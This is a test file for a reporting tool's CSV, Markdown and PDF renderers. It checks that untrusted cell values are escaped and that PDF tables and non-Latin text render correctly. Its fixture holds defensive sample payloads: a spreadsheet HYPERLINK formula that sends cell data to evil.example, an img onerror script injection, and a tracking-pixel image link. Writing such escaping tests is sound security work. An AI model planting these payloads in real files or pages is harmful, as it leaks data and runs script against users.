import { inflateSync } from 'node:zlib';
import { renderReport } from '../../src/reports/renderers';
import type { ReportDocument } from '../../src/reports/report-document';

/** A report whose cells come from outside Candor (an actor's name from a JWT, say), rendered for tools that run or render them. */
const hostile: ReportDocument = {
  kind: 'denials',
  title: 'Denials',
  parameters: {},
  generatedAt: '2026-11-29T12:00:00.000Z',
  logHead: { seq: 7, hash: 'a'.repeat(64) },
  summary: [],
  primaryTable: 'Withheld',
  data: {},
  sections: [
    {
      title: 'Withheld',
      tables: [
        {
          title: 'Withheld',
          columns: ['who', 'count', 'delta'],
          rows: [
            ['=HYPERLINK("http://evil.example/?"&A1,"x")', 3, -2],
            ['@SUM(1)', 0, 0],
            ['<img src=x onerror=alert(1)>', 1, 1],
            ['line\rbreak | pipe', 2, 2],
            ['![tracker](https://evil.example/pixel)', 4, 4],
          ],
        },
      ],
    },
  ],
};

describe('report renderers and values they do not control', () => {
  it('CSV: text a spreadsheet would run as a formula is quoted with an apostrophe; numbers stay numbers', async () => {
    const lines = (await renderReport(hostile, 'csv')).toString().trim().split('\n');
    expect(lines.slice(1, 3)).toEqual([`"'=HYPERLINK(""http://evil.example/?""&A1,""x"")",3,-2`, "'@SUM(1),0,0"]);
  });

  it('Markdown: a value never becomes markup (HTML, a link, an image), and never ends its table row', async () => {
    const markdown = (await renderReport(hostile, 'md')).toString();
    expect(markdown).not.toContain('<img');
    expect(markdown).toContain('| &lt;img src=x onerror=alert\\(1\\)&gt; | 1 | 1 |');
    expect(markdown).toContain('| line break \\| pipe | 2 | 2 |');
    // Nor a link or an image a viewer would load.
    expect(markdown).toContain('| \\!\\[tracker\\]\\(https://evil.example/pixel\\) | 4 | 4 |');
  });
});

/** Windows-1252's characters for the bytes 0x80–0x9F (Node's TextDecoder reads them as Latin-1's controls). */
const WINDOWS_1252_C1 = '€\u0081‚ƒ„…†‡ˆ‰Š‹Œ\u008dŽ\u008f\u0090‘’“”•–—˜™š›œ\u009džŸ';
/** Bytes as pdfkit's built-in fonts encode text: Windows-1252. */
const windows1252 = (bytes: Buffer) => [...bytes].map((byte) => (byte >= 0x80 && byte <= 0x9f ? WINDOWS_1252_C1[byte - 0x80] : String.fromCharCode(byte))).join('');

/** The text each page of a pdfkit PDF shows, one string per text-showing operation (kerning gaps dropped). */
function pdfPageTexts(pdf: Buffer): string[][] {
  const source = pdf.toString('latin1');
  const pages: string[][] = [];
  for (const match of source.matchAll(/stream\r?\n/g)) {
    const start = match.index! + match[0].length;
    let content: string;
    try {
      content = inflateSync(pdf.subarray(start, source.indexOf('endstream', start))).toString('latin1');
    } catch {
      continue; // not a compressed content stream
    }
    if (!content.includes('BT')) continue;
    pages.push([...content.matchAll(/\[(.*?)\] TJ/g)].map(([, operands]) => [...operands.matchAll(/<([0-9a-f]*)>/g)].map(([, hex]) => windows1252(Buffer.from(hex, 'hex'))).join('')));
  }
  return pages;
}

describe('the PDF report', () => {
  const rows = Array.from({ length: 120 }, (_, index) => [`row-${index}`, 'marketing.communications', index % 3 ? 'Marketing' : 'Customer Support with a long team name', 1000 + index]);
  const long: ReportDocument = { ...hostile, title: 'Purpose usage', primaryTable: 'Usage', sections: [{ title: 'Usage', tables: [{ title: 'Usage', columns: ['row', 'purpose', 'team', 'accesses'], rows }] }] };

  it('shows text outside its fonts legibly, and garbles nothing after it (letters without their marks, other scripts as "?")', async () => {
    const names: ReportDocument = {
      ...hostile,
      title: 'Denials — Łódź',
      sections: [{ title: 'Who', tables: [{ title: 'Who', columns: ['who', 'count'], rows: [['Łukasz Nowak\tęóż', 1], ['Ζεύς 😀 €5\u0000 after', 2], ['Jose\u0301 n\u0303 e\u0328\u200b!', 3]] }] }],
    };
    const all = pdfPageTexts(await renderReport(names, 'pdf')).flat();
    expect(all).toEqual(expect.arrayContaining(['Denials — Lódz', 'Lukasz Nowak eóz', '???? ? €5 after', 'José ñ e!']));
  });

  it('draws tables as tables: whole words in columns, every row once, the header again on each page', async () => {
    const pages = pdfPageTexts(await renderReport(long, 'pdf'));
    expect(pages.length).toBeGreaterThan(2);
    const all = pages.flat();
    // A column is as wide as its longest word: neither the purpose nor the header breaks inside a word.
    expect(all.filter((run) => run === 'marketing.communications')).toHaveLength(120);
    expect(all.filter((run) => run === 'accesses')).toHaveLength(pages.length);
    for (const [label] of rows) expect([label, all.filter((run) => run === label).length]).toEqual([label, 1]);
    // Each page after the first starts with the header row.
    for (const page of pages.slice(1)) expect(page.slice(0, 4)).toEqual(['row', 'purpose', 'team', 'accesses']);
  });
});
